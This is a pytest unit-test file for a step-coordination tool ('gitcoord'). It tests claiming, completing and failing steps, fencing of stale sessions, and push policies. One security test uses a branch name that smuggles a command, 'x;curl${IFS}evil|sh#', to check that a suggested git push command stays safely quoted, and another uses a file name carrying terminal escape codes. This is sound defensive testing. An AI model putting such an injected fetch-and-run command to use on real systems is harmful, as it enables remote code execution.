"""Running: what the holder does with a step, and that nobody else can."""

import shlex
from collections.abc import Callable

import pytest

from gitcoord.core.documents.actor import Actor
from gitcoord.core.documents.outcomes import Verdict
from gitcoord.core.documents.policy import Policy
from gitcoord.core.steps.project import ProjectStatus
from gitcoord.core.steps.rules.progress import BEAT_EVERY
from gitcoord.core.steps.step import StepStatus
from gitcoord.core.steps.step_commands import (
    BeatStep,
    ClaimStep,
    Command,
    CompleteStep,
    FailStep,
    RecoverStep,
    StartStep,
)
from tests.unit.core.play import (
    ANN,
    ANN_AGAIN,
    ANN_TESTS,
    BOB,
    COMMIT,
    NOW,
    OTHER_COMMIT,
    Play,
    chain,
    claim,
    defined,
    minutes,
    play,
)


def complete(num: int, fence: int | None, **fields: object) -> CompleteStep:
    return CompleteStep(step_num=num, fence=fence, commit_hash=COMMIT).evolve(**fields)


def fail(num: int, fence: int | None) -> FailStep:
    return FailStep(step_num=num, fence=fence, reason="red")


HOLDERS_COMMANDS: list[Callable[[int, int | None], Command]] = [
    lambda num, fence: StartStep(step_num=num, fence=fence),
    lambda num, fence: BeatStep(step_num=num, fence=fence),
    complete,
    fail,
]
each_command = pytest.mark.parametrize("command", HOLDERS_COMMANDS, ids=["start", "heartbeat", "complete", "fail"])


# --- done ---


def test_start_records_when_and_where() -> None:
    game = play(defined(1))
    fence = game.claimed(1)
    game.tick(2)

    outcome = game.do(StartStep(step_num=1, fence=fence, worktree="wt-1"))

    assert (outcome.code, outcome.facts) == ("step_started", {"step_num": 1})
    assert (game[1].status, game[1].worktree) == (StepStatus.IN_PROGRESS, "wt-1")
    assert (game[1].claimed_at, game[1].started_at, game[1].last_activity) == (NOW, game.now, game.now)


def test_a_heartbeat_records_that_the_holder_lives() -> None:
    game = play(defined(1))
    fence = game.started(1)
    before = game[1]
    game.tick(9)

    assert game.do(BeatStep(step_num=1, fence=fence)).is_done
    assert game[1] == before.evolve(last_activity=game.now)


@pytest.mark.rule("STEP-7")
@pytest.mark.parametrize("reach", [Play.claimed, Play.started])
def test_complete_records_the_work_and_frees_the_dependants(reach: Callable[[Play, int], int]) -> None:
    game = play(defined(1), defined(2, 1), defined(3, 1), defined(4, 2), defined(5))
    fence = reach(game, 1)
    game.tick(30)

    outcome = game.do(complete(1, fence, files_modified=("a.py",), notes="see a.py"))

    assert (outcome.code, outcome.facts) == ("step_completed", {"step_num": 1, "unblocked": [2, 3]})
    assert game[1].status is StepStatus.COMPLETED
    assert (game[1].commit_hash, game[1].files_modified, game[1].notes) == (COMMIT, ("a.py",), "see a.py")
    assert (game[1].completed_at, game[1].agent_id) == (game.now, ANN.agent)
    assert game.available == [2, 3, 5]


@pytest.mark.rule("STEP-7")
def test_the_last_completion_completes_the_project() -> None:
    game = play(defined(1), defined(2), defined(3))
    game.skipped(1)
    game.completed(2)
    fence = game.claimed(3)
    game.tick(4)

    outcome = game.do(complete(3, fence))

    assert outcome.facts == {"step_num": 3, "unblocked": [], "project_completed": True}
    assert (game.whole.project.status, game.whole.project.completed_at) == (ProjectStatus.COMPLETED, game.now)


@pytest.mark.rule("STEP-7")
def test_a_failed_step_keeps_its_project_open() -> None:
    game = play(defined(1), defined(2))
    game.failed(1)
    game.completed(2)

    assert game.whole.project.status is ProjectStatus.ACTIVE


@pytest.mark.rule("STEP-8")
@pytest.mark.parametrize("reach", [Play.claimed, Play.started])
def test_fail_records_the_reason_and_leaves_the_dependants_blocked(reach: Callable[[Play, int], int]) -> None:
    game = play(defined(1), defined(2, 1), defined(3, 2))
    fence = reach(game, 1)
    game.tick(7)

    outcome = game.do(fail(1, fence))

    assert (outcome.code, outcome.facts) == ("step_failed", {"step_num": 1, "blocked": [2]})
    assert (game[1].status, game[1].reason, game[1].failed_at) == (StepStatus.FAILED, "red", game.now)
    assert game.available == []


# --- the same again ---


@pytest.mark.rule("STEP-6")
@each_command
def test_the_same_command_twice_says_so_and_changes_nothing(command: Callable[[int, int | None], Command]) -> None:
    game = play(*chain(2))
    fence = game.claimed(1)
    assert game.do(command(1, fence)).is_done
    before = game.whole

    outcome = game.do(command(1, fence))

    assert outcome.is_done
    assert outcome.facts.get("already") is True
    assert game.whole.steps == before.steps


@pytest.mark.rule("STEP-6")
def test_a_beat_soon_after_another_sign_of_life_changes_nothing_and_says_how_often_one_counts() -> None:
    game = play(defined(1))
    fence = game.claimed(1)

    soon = game.do(BeatStep(step_num=1, fence=fence))
    game.tick(BEAT_EVERY / minutes(1))
    late = game.do(BeatStep(step_num=1, fence=fence))

    assert soon.facts == {"step_num": 1, "already": True, "interval_s": 10}
    assert (late.facts, game[1].last_activity) == ({"step_num": 1}, game.now)


@pytest.mark.rule("STEP-6")
@pytest.mark.parametrize(("end", "command"), [(Play.completed, complete), (Play.failed, fail)])
def test_who_ended_a_step_may_say_so_again_from_its_next_session(
    end: Callable[[Play, int], int], command: Callable[[int, int | None], Command]
) -> None:
    game = play(*chain(2))
    fence = end(game, 1)

    again = [game.do(command(1, known), ANN_AGAIN) for known in (None, fence)]
    old = game.do(command(1, fence + 1), ANN_AGAIN)
    others = [game.do(command(1, None), by) for by in (BOB, ANN.evolve(clone="phone"), ANN_TESTS)]

    assert [one.facts.get("already") for one in again] == [True, True]
    assert [one.code for one in (old, *others)] == ["not_held"] * 4


@pytest.mark.rule("STEP-9")
@pytest.mark.parametrize("how", [RecoverStep(step_num=1), claim(1)], ids=["recover", "claim"])
def test_who_goes_on_with_a_failed_step_finds_its_last_commit_and_notes(how: Command) -> None:
    game = play(defined(1, branch="f/1"))
    fence = game.claimed(1)
    game.do(FailStep(step_num=1, fence=fence, reason="red", notes="half is done", branch_tip=COMMIT))
    at_once = game[1].checkpoint

    game.do(how, BOB)
    game.claimed(1, BOB)
    game.do(FailStep(step_num=1, fence=2, reason="red too"), BOB)

    assert (at_once["commit"], at_once["notes"], at_once["agent_id"]) == (COMMIT, "half is done", ANN.agent)
    left = game[1].checkpoint
    assert (left["commit"], left["notes"], left["agent_id"]) == (COMMIT, "half is done", BOB.agent)
    assert game[1].commit_hash is None


@pytest.mark.rule("STEP-6", "SAFE-2")
def test_a_completed_step_is_not_completed_with_another_commit() -> None:
    game = play(*chain(2))
    fence = game.completed(1)

    outcome = game.do(complete(1, fence, commit_hash=OTHER_COMMIT))

    assert (outcome.verdict, outcome.code) == (Verdict.REFUSED, "completed_otherwise")
    assert game[1].commit_hash == COMMIT


@pytest.mark.rule("STEP-5", "SAFE-7")
@each_command
def test_the_session_with_the_present_fence_is_right_whatever_id_its_clone_has_by_now(
    command: Callable[[int, int | None], Command],
) -> None:
    game = play(*chain(2))
    game.started(1)

    assert game.do(command(1, 1), ANN.evolve(clone="drawn-anew")).verdict is Verdict.DONE


@pytest.mark.rule("STEP-5", "SAFE-4")
def test_the_session_of_a_command_line_is_the_same_in_a_copy_and_right_only_in_its_clone() -> None:
    cli = ANN.evolve(session="cli-0123")
    game = play(*chain(2))
    game.do(ClaimStep(), cli)

    assert game.do(complete(1, 1), cli.evolve(clone="copy")).verdict is Verdict.REFUSED
    assert game.do(complete(1, 1), cli.evolve(clone="copy", others=("laptop",))).verdict is Verdict.DONE


# --- not the holder ---


@pytest.mark.rule("STEP-5", "SAFE-4")
@each_command
@pytest.mark.parametrize(
    ("actor", "fence"),
    [
        (ANN, 0),
        (ANN, 2),
        (ANN, None),
        (ANN_AGAIN, 1),
        (ANN_AGAIN, None),
        (BOB, 1),
        (BOB.evolve(clone=ANN.clone), 1),
    ],
)
def test_without_the_present_fence_in_its_session_every_command_is_refused(
    command: Callable[[int, int | None], Command], actor: Actor, fence: int | None
) -> None:
    game = play(*chain(2))
    game.started(1)

    outcome = game.do(command(1, fence), actor)

    assert (outcome.verdict, outcome.code) == (Verdict.REFUSED, "not_holder")
    assert (outcome.facts["agent"], outcome.facts["fence"]) == (ANN.agent, 1)
    assert outcome.facts.get("your_fence") == fence
    assert outcome.hint


@pytest.mark.rule("STEP-5", "SAFE-4")
@each_command
def test_a_zombie_of_the_same_name_is_refused_and_told_of_the_other_session(
    command: Callable[[int, int | None], Command],
) -> None:
    game = play(*chain(2))
    old = game.started(1)
    assert game.claimed(1, ANN_AGAIN) == old + 1

    outcome = game.do(command(1, old))

    assert outcome.code == "not_holder"
    assert outcome.message == f"Step app/1 was given to another session of {ANN.agent} (fence 2)."
    assert game.do(command(1, old + 1), ANN_AGAIN).is_done


@pytest.mark.rule("STEP-5")
@each_command
@pytest.mark.parametrize("by", [ANN, BOB])
def test_a_step_that_nobody_holds_is_refused_with_how_to_take_it(
    command: Callable[[int, int | None], Command], by: Actor
) -> None:
    fresh, skipped = play(*chain(2)), play(*chain(2))
    skipped.skipped(1)

    for game, hint in ((fresh, "Claim it first"), (skipped, "Nothing is left to do on it")):
        outcome = game.do(command(1, None), by)

        assert (outcome.verdict, outcome.code) == (Verdict.REFUSED, "not_held")
        assert outcome.hint.startswith(hint)


@each_command
def test_a_step_that_does_not_exist_is_invalid(command: Callable[[int, int | None], Command]) -> None:
    outcome = play(*chain(2)).do(command(9, 1))

    assert (outcome.verdict, outcome.code) == (Verdict.INVALID, "not_found")


@pytest.mark.rule("STEP-5", "SAFE-4")
@pytest.mark.parametrize("command", [complete, fail])
def test_what_another_ended_cannot_be_ended_again(command: Callable[[int, int | None], Command]) -> None:
    for end in (Play.completed, Play.failed):
        game = play(*chain(2))
        fence = end(game, 1, BOB)

        assert game.do(command(1, fence)).code == "not_held"


@pytest.mark.rule("STEP-5")
def test_within_its_session_an_agent_acts_for_its_sub_agents() -> None:
    game = play(*chain(2))
    fence = game.started(1, ANN_TESTS)

    assert game.do(complete(1, fence), ANN).is_done


@pytest.mark.rule("SAFE-4", "STEP-5")
def test_a_fence_from_before_a_recovery_is_worth_nothing() -> None:
    game = play(*chain(2))
    old = game.started(1)
    game.do(RecoverStep(step_num=1))

    assert game.do(complete(1, old)).code == "not_held"
    game.claimed(1)
    assert game.do(complete(1, old)).code == "not_holder"


# --- policies ---


@pytest.mark.parametrize(
    ("pushed", "others", "required", "code"),
    [
        (False, False, None, "step_completed"),
        (False, True, None, "not_pushed"),
        (False, False, True, "not_pushed"),
        (False, True, False, "step_completed"),
        (True, True, True, "step_completed"),
        (None, True, True, "step_completed"),
    ],
)
def test_a_commit_must_be_pushed_where_the_policy_or_another_live_clone_asks_for_it(
    pushed: bool | None, others: bool, required: bool | None, code: str
) -> None:
    game = play(defined(1, branch="f/1"), policy=Policy(require_pushed=required))
    fence = game.claimed(1)

    outcome = game.do(complete(1, fence, pushed=pushed, others_live=others))

    assert outcome.code == code
    if code == "not_pushed":
        assert outcome.hint == "Push it first: `git push origin cccccccccccc:refs/heads/f/1`."


def test_what_is_not_as_planned_is_a_warning_with_what_to_do() -> None:
    game = play(defined(1, branch="f/1"))
    fence = game.claimed(1)

    outcome = game.do(complete(1, fence, on_branch=False, outside=("b.py", "c.py"), pushed=False))

    assert outcome.facts["warnings"] == [
        "Commit cccccccccccc is not on the step's branch 'f/1'.",
        "Changed outside the step's paths: 'b.py', 'c.py'.",
        "Not pushed: no branch of the remote has the commit; run `git push origin cccccccccccc:refs/heads/f/1`.",
    ]
    assert game[1].status is StepStatus.COMPLETED


@pytest.mark.parametrize(
    ("fields", "code"),
    [
        ({"on_branch": False}, "strict_complete"),
        ({"outside": ("b.py",)}, "strict_complete"),
        ({"pushed": False}, "step_completed"),
        ({"on_branch": True, "pushed": True}, "step_completed"),
        ({"on_branch": None}, "step_completed"),
    ],
)
def test_the_strict_policy_refuses_what_is_not_as_planned(fields: dict[str, object], code: str) -> None:
    game = play(defined(1, branch="f/1"), policy=Policy(strict_complete=True))
    fence = game.claimed(1)

    assert game.do(complete(1, fence, **fields)).code == code


@pytest.mark.rule("SEC-1")
def test_a_command_to_copy_is_safe_whatever_the_branch_is_called() -> None:
    game = play(defined(1, branch="x;curl${IFS}evil|sh#'\""), policy=Policy(require_pushed=True))
    fence = game.claimed(1)

    hint = game.do(complete(1, fence, pushed=False)).hint

    words = shlex.split(hint.partition(": `")[2].removesuffix("`."))
    assert words == ["git", "push", "origin", f"{COMMIT[:12]}:refs/heads/{game[1].branch}"]


@pytest.mark.rule("SEC-1")
def test_a_hostile_file_name_is_quoted_in_a_warning() -> None:
    game = play(defined(1))
    fence = game.claimed(1)

    outcome = game.do(complete(1, fence, outside=("\x1b[31m\n.py",)))

    assert outcome.facts["warnings"] == [
        "Changed outside the step's paths: '\N{REPLACEMENT CHARACTER}[31m\N{REPLACEMENT CHARACTER}.py'."
    ]
